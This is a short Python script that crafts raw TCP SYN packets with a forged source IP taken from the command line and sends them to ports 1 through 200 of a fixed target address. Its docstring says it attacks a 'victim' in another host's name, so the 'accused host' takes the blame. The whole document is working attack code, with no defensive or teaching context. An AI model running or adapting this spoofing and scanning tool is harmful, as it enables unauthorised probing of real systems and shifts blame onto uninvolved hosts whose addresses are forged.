"""Sends SYNs to the victim in another one's name: nobody on the accused host does anything."""
import socket
import struct
import sys
import time

forged, target = sys.argv[1], "198.51.100.20"
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


for port in range(1, 201):
    tcp = struct.pack("!HHIIBBHHH", 50000 + port, port, port, 0, 5 << 4, 2, 1024, 0, 0)
    pseudo = socket.inet_aton(forged) + socket.inet_aton(target) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, port, 0, 64, 6, 0, socket.inet_aton(forged), socket.inet_aton(target))
    sender.sendto(ip + tcp, (target, 0))
    if port % 50 == 0:
        time.sleep(0.05)
